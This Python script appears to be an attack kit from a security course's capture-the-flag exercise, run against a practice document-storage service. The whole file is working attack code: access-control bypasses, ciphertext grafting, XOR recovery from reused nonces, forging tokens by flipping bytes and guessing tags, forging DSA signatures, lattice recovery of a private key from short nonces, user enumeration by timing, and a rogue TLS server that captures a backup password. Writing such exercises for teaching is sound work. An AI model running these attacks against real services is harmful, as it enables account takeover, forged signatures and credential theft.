"""The kit's attack: the ideas of the nine attacks of lesson 08, with a customer's rights only.

It runs as a team's attack does. Each idea is tried by itself: if one fails, the next goes on.
"""

import hashlib
import json
import secrets
import socket
import ssl
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from typing import Any

import requests

Receipt = dict[str, str]
SIGNED = ["id", "owner", "title", "nonce", "ciphertext", "tag"]
K_BITS_KNOWN = 64
SIGNATURES = 6
PROBES = 8

with open("match.json", encoding="utf-8") as file:
    match = json.load(file)
p, q, g, y = (int(match[name], 16) for name in "pqgy")
session = requests.Session()
victim, theirs = match["victim"], match["receipts"]


def called(door: str, **arguments: object) -> requests.Response:
    """What a door answers."""
    url = f"{match['url']}/{door}"
    return session.post(url, json=arguments, verify=match["ca_file"], timeout=10)


def ask(door: str, **arguments: object) -> Any:
    """What a door gives; None if it refuses."""
    return called(door, **arguments).json().get("answer")


def flag(**claim: object) -> bool:
    """Hand a flag in."""
    taken = bool(ask("flag", **claim))
    if taken:
        print("a flag:", *claim)
    return taken


def log_in() -> str:
    """A token of one's own."""
    return str(ask("login", name=match["name"], password=match["password"]))


def text_in(answer: object) -> str | None:
    """The text that /retrieve gave."""
    return answer.get("text") if isinstance(answer, dict) else None


# A text of the victim.


def any_customer_reads() -> None:
    """admit: logged in is enough."""
    token, receipt = log_in(), theirs[0]
    for answer in (
        ask("retrieve_by_id", token=token, id=receipt["id"]),
        ask("retrieve", token=token, receipt=receipt),
        ask("retrieve", token=token, receipt=receipt | {"owner": match["name"]}),
    ):
        flag(text=text_in(answer))


def grafted() -> None:
    """answer: the victim's ciphertext in a receipt of one's own."""
    token = log_in()
    mine = ask("store", token=token, title="mine", text="x" * 40)
    for fields in (("nonce", "ciphertext"), ("nonce", "ciphertext", "tag")):
        changed = mine | {field: theirs[0][field] for field in fields}
        flag(text=text_in(ask("retrieve", token=token, receipt=changed)))


def nonces_come_again() -> None:
    """nonce: after a restart, known texts under the nonces of before."""
    ask("restart")
    token, known = log_in(), "a" * 100
    for title in [receipt["title"] for receipt in theirs] + ["again"] * 60:
        mine = ask("store", token=token, title=title, text=known)
        for receipt in theirs:
            if mine["nonce"] == receipt["nonce"]:
                one, two = (bytes.fromhex(it["ciphertext"]) for it in (mine, receipt))
                text = bytes(a ^ b ^ ord("a") for a, b in zip(one, two, strict=False))
                if flag(text=text.decode(errors="replace")):
                    return


def forged_token() -> str | None:
    """same_tag: the name in a token is changed, and the tag left out or guessed."""
    nonce, sealed, tag = log_in().split(".")
    change = bytes(a ^ b for a, b in zip(match["name"].encode(), victim.encode(), strict=True))
    name = bytes(a ^ b for a, b in zip(bytes.fromhex(sealed), change, strict=True)).hex()
    for guess in ("", *(f"{byte:02x}" for byte in range(256))):
        if guess and ask("who", token=f"{nonce}.{sealed}.{tag[:2]}") is None:
            return None  # one right byte is not enough
        if ask("who", token=f"{nonce}.{name}.{guess}") == victim:
            return f"{nonce}.{name}.{guess}"
    return None


def as_the_victim() -> None:
    """With a forged token, all doors are open: read, state, forget."""
    if token := forged_token():
        flag(text=text_in(ask("retrieve", token=token, receipt=theirs[0])))
        flag(statement=ask("store", token=token, title=match["challenge"], text="not mine"))
        ask("forget", token=token, id=theirs[0]["id"])


# A statement that the victim never made.


def signed_with(x: int, public_key: int) -> Receipt:
    """The victim's receipt with another title, signed with this key."""
    receipt = theirs[0] | {"title": match["challenge"], "public_key": f"{public_key:x}"}
    message = "".join(receipt[field] for field in SIGNED).encode()
    h = int.from_bytes(hashlib.sha256(message).digest(), "big")
    k = secrets.randbelow(q - 1) + 1
    r = pow(g, k, p) % q
    s = pow(k, -1, q) * (h + x * r) % q
    return dict(receipt | {"signature": f"{r:064x}{s:064x}"})


def own_key() -> None:
    """public_number: whoever brings a key is believed."""
    x = secrets.randbelow(q - 1) + 1
    flag(statement=signed_with(x, pow(g, x, p)))


def moved_characters() -> None:
    """signed_bytes: owner and title of the claim both stand in a title of one's own."""
    token = log_in()
    for gap in ("", "|", ",", "/", ":", "\n"):
        title = f"{victim}{gap}{match['challenge']}"
        mine = ask("store", token=token, title=title, text="x")
        number = f"{mine['id']}{gap}{mine['owner']}"
        flag(statement=mine | {"id": number, "owner": victim, "title": match["challenge"]})


def short_ks() -> None:
    """secret_number: a lattice finds x from short ks."""
    # Only here: importing the lessons' code takes a second.
    from securedata.lab.attacks.dsa import Signed, key_from_short_ks
    from securedata.lab.smalldsa import REAL

    token = log_in()
    mine = [ask("store", token=token, title="k", text="k") for _ in range(SIGNATURES)]
    seen = [
        Signed.seen(
            "".join(it[field] for field in SIGNED).encode(), bytes.fromhex(it["signature"]), q
        )
        for it in mine
    ]
    x = key_from_short_ks(REAL, y, seen, K_BITS_KNOWN)
    if x is not None:
        flag(statement=signed_with(x, y))


# A record is gone.


def any_customer_forgets() -> None:
    """admit: at the door that throws away."""
    ask("forget", token=log_in(), id=theirs[-1]["id"])


# Who is a customer?


def customers() -> None:
    """login: other words, or another time, for four of the eight."""
    said, best = dict[str, set[str]](), dict[str, float]()
    for _ in range(PROBES):
        for name in match["names"]:
            started = time.perf_counter()
            answer = called("login", name=name, password="a wrong one")  # noqa: S106
            seconds = time.perf_counter() - started
            best[name] = min(seconds, best.get(name, seconds))
            said.setdefault(name, set()).add(f"{answer.status_code} {answer.text}")
    for told in (said, best):
        for few in _halves(told):
            flag(customers=few)
            return


def _halves(told: dict[str, Any]) -> Iterator[list[str]]:
    """The four that differ from the other four; of times, the slow ones, if they are far away."""
    names = list(told)
    if isinstance(told[names[0]], set):
        groups = dict[str, list[str]]()
        for name in names:
            groups.setdefault(str(sorted(told[name])), []).append(name)
        if sorted(map(len, groups.values())) == [4, 4]:
            yield next(group for words, group in groups.items() if "no such" not in words)
        return
    by_time = sorted(names, key=lambda name: told[name])
    if told[by_time[4]] > 1.5 * told[by_time[3]]:
        yield by_time[4:]


# The backup's password.


def false_servers() -> None:
    """tls_to_backup: a server with each certificate that it should not believe."""
    for file in match["certificates"].values():
        with socket.create_server(("localhost", match["backup_port"])) as server:
            server.settimeout(5)
            heard = list[bytes]()
            listener = threading.Thread(target=_hear, args=(server, file, heard))
            listener.start()
            ask("backup")
            listener.join()
        for line in b"".join(heard).split(b"\r\n"):
            if line.lower().startswith(b"authorization:"):
                flag(password=line.partition(b":")[2].strip().decode())
                return


def _hear(server: socket.socket, file: str, heard: list[bytes]) -> None:
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    tls.load_cert_chain(file)
    with suppress(OSError), server.accept()[0] as plain:
        plain.settimeout(1)
        with tls.wrap_socket(plain, server_side=True) as client:
            heard.append(client.recv(1 << 14))
            client.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")


IDEAS: list[Callable[[], None]] = [
    any_customer_reads,
    grafted,
    own_key,
    moved_characters,
    as_the_victim,
    false_servers,
    customers,
    nonces_come_again,
    any_customer_forgets,
    short_ks,
]
for idea in IDEAS:
    try:
        idea()
    except (ArithmeticError, AttributeError, LookupError, OSError, TypeError, ValueError) as error:
        print(f"{idea.__name__}: {type(error).__name__}")
